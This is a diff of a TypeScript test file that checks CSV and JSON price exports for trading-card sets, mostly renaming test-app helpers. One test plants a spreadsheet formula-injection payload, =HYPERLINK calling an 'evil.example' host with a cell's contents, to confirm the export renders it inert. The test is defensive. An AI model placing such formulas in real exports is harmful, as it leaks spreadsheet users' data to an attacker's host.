@@ -1,8 +1,8 @@
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
 import { EXPORT_FORMATS, exportSet, exportSets } from '#actions/pricing/export-prices.ts'
 import { parseCsv } from '../../support/csv.ts'
-import { type House, openHouse } from '../../support/test-app.ts'
-import type { Row } from '../../support/test-user.ts'
+import { createTestApp, type TestApp } from '../../support/test-app.ts'
+import type { Row } from '../../support/test-client.ts'
 
 const SETS = [90011, 90012, 90021, 90022, 90031]
 
@@ -13,12 +13,12 @@ const HEADER = [
   ...['price_change_7d', 'price_change_30d', 'last_updated_at'],
 ]
 
-let house: House
+let testApp: TestApp
 
 beforeAll(async () => {
-  house = await openHouse()
+  testApp = await createTestApp()
 })
-afterAll(() => house.close())
+afterAll(() => testApp.close())
 
 const textOf = (pieces: Iterable<string>) => [...pieces].join('')
 
@@ -32,16 +32,16 @@ function rowsOf(csv: string): Record<string, string>[] {
 }
 
 const pricesOf = async (set: number) =>
-  (await house.visitor.get<Row[]>(`/v1/sets/${set}/prices`, { as: 'business' })).body.data
+  (await testApp.client.get<Row[]>(`/v1/sets/${set}/prices`, { as: 'business' })).body.data
 
 const cardsOf = async (set: number) =>
-  (await house.visitor.get<Row[]>(`/v1/sets/${set}/cards?per_page=100`, { as: 'business' })).body
+  (await testApp.client.get<Row[]>(`/v1/sets/${set}/cards?per_page=100`, { as: 'business' })).body
     .data
 
 describe('a set as CSV', () => {
   test('is a table with a header, one record a printing, by RFC 4180', async () => {
     for (const set of SETS) {
-      const csv = textOf(exportSet(house.deps, set, 'csv'))
+      const csv = textOf(exportSet(testApp.deps, set, 'csv'))
       expect(parseCsv(csv)[0]).toEqual(HEADER)
       const rows = rowsOf(csv).filter((row) => row.printing !== '')
       const prices = await pricesOf(set)
@@ -58,13 +58,13 @@ describe('a set as CSV', () => {
 
   test('has every card of the set, one without prices, too', async () => {
     for (const set of SETS) {
-      const rows = rowsOf(textOf(exportSet(house.deps, set, 'csv')))
+      const rows = rowsOf(textOf(exportSet(testApp.deps, set, 'csv')))
       const cards = await cardsOf(set)
       expect([...new Set(rows.map((row) => Number(row.card_id)))]).toEqual(
         cards.map((card) => Number(card.id)),
       )
     }
-    const rows = rowsOf(textOf(exportSet(house.deps, 90011, 'csv')))
+    const rows = rowsOf(textOf(exportSet(testApp.deps, 90011, 'csv')))
     expect(rows.find((row) => row.card_id === '900082')).toMatchObject({
       name: 'Lantern Season Booster Box Case',
       printing: '',
@@ -73,7 +73,7 @@ describe('a set as CSV', () => {
   })
 
   test('tells the game and the set in every record', () => {
-    for (const row of rowsOf(textOf(exportSet(house.deps, 90021, 'csv')))) {
+    for (const row of rowsOf(textOf(exportSet(testApp.deps, 90021, 'csv')))) {
       expect(row).toMatchObject({
         game: 'vellum-and-thorn',
         game_name: expect.stringContaining('Vellum & Thorn'),
@@ -85,7 +85,7 @@ describe('a set as CSV', () => {
   })
 
   test('a price that fell is a negative number, not a text', () => {
-    const falls = SETS.flatMap((set) => rowsOf(textOf(exportSet(house.deps, set, 'csv')))).filter(
+    const falls = SETS.flatMap((set) => rowsOf(textOf(exportSet(testApp.deps, set, 'csv')))).filter(
       (row) => row.price_change_7d?.startsWith('-'),
     )
     expect(falls.length).toBeGreaterThan(0)
@@ -93,7 +93,7 @@ describe('a set as CSV', () => {
   })
 
   test('text that a spreadsheet would run is inert, in whichever column', async () => {
-    const own = await openHouse()
+    const own = await createTestApp()
     const evil = '=HYPERLINK("http://evil.example?"&A1)'
     own.catalogDb
       .prepare('UPDATE cards SET name = ?, number = ?, rarity = ? WHERE id = 900201')
@@ -123,7 +123,7 @@ describe('a set as CSV', () => {
   })
 
   test('names with commas, quotes and line ends come through', async () => {
-    const own = await openHouse()
+    const own = await createTestApp()
     const name = 'Rock, "Paper"\r\nand Scissors; naïve – Ω カード'
     own.catalogDb.prepare('UPDATE cards SET name = ? WHERE id = 900201').run(name)
     const rows = rowsOf(textOf(exportSet(own.deps, 90021, 'csv')))
@@ -135,9 +135,9 @@ describe('a set as CSV', () => {
 describe('a set as JSON', () => {
   test('is the game, the set, and the prices of /v1/sets/{id}/prices', async () => {
     for (const set of SETS) {
-      const told = JSON.parse(textOf(exportSet(house.deps, set, 'json')))
+      const told = JSON.parse(textOf(exportSet(testApp.deps, set, 'json')))
       expect(Object.keys(told)).toEqual(['game', 'set', 'prices'])
-      const asked = await house.visitor.get(`/v1/sets/${set}`, { as: 'business' })
+      const asked = await testApp.client.get(`/v1/sets/${set}`, { as: 'business' })
       expect(told.set).toEqual(asked.body.data)
       expect(told.game.slug).toBe(told.set.game_slug)
       const priced = told.prices.filter((row: Row) => row.printing !== undefined)
@@ -150,27 +150,29 @@ describe('a set as JSON', () => {
 
 describe('several sets', () => {
   test('are one table, or one array, of what each of them is alone', () => {
-    const csv = rowsOf(textOf(exportSets(house.deps, SETS, 'csv')))
-    expect(csv).toEqual(SETS.flatMap((set) => rowsOf(textOf(exportSet(house.deps, set, 'csv')))))
-    const json = JSON.parse(textOf(exportSets(house.deps, SETS, 'json')))
-    expect(json).toEqual(SETS.map((set) => JSON.parse(textOf(exportSet(house.deps, set, 'json')))))
+    const csv = rowsOf(textOf(exportSets(testApp.deps, SETS, 'csv')))
+    expect(csv).toEqual(SETS.flatMap((set) => rowsOf(textOf(exportSet(testApp.deps, set, 'csv')))))
+    const json = JSON.parse(textOf(exportSets(testApp.deps, SETS, 'json')))
+    expect(json).toEqual(
+      SETS.map((set) => JSON.parse(textOf(exportSet(testApp.deps, set, 'json')))),
+    )
   })
 
   test('tell how far they are', () => {
     const done: number[] = []
-    textOf(exportSets(house.deps, SETS, 'csv', (count) => done.push(count)))
+    textOf(exportSets(testApp.deps, SETS, 'csv', (count) => done.push(count)))
     expect(done).toEqual([1, 2, 3, 4, 5])
   })
 
   test('that are none are an empty table and an empty array', () => {
-    expect(parseCsv(textOf(exportSets(house.deps, [], 'csv')))).toEqual([HEADER])
-    expect(JSON.parse(textOf(exportSets(house.deps, [], 'json')))).toEqual([])
+    expect(parseCsv(textOf(exportSets(testApp.deps, [], 'csv')))).toEqual([HEADER])
+    expect(JSON.parse(textOf(exportSets(testApp.deps, [], 'json')))).toEqual([])
   })
 
   test('of which one is not there are the others', () => {
     for (const format of EXPORT_FORMATS) {
-      const withOut = textOf(exportSets(house.deps, [90011, 1, 90012], format))
-      const without = textOf(exportSets(house.deps, [90011, 90012], format))
+      const withOut = textOf(exportSets(testApp.deps, [90011, 1, 90012], format))
+      const without = textOf(exportSets(testApp.deps, [90011, 90012], format))
       expect(format === 'json' ? JSON.parse(withOut) : withOut).toEqual(
         format === 'json' ? JSON.parse(without) : without,
       )
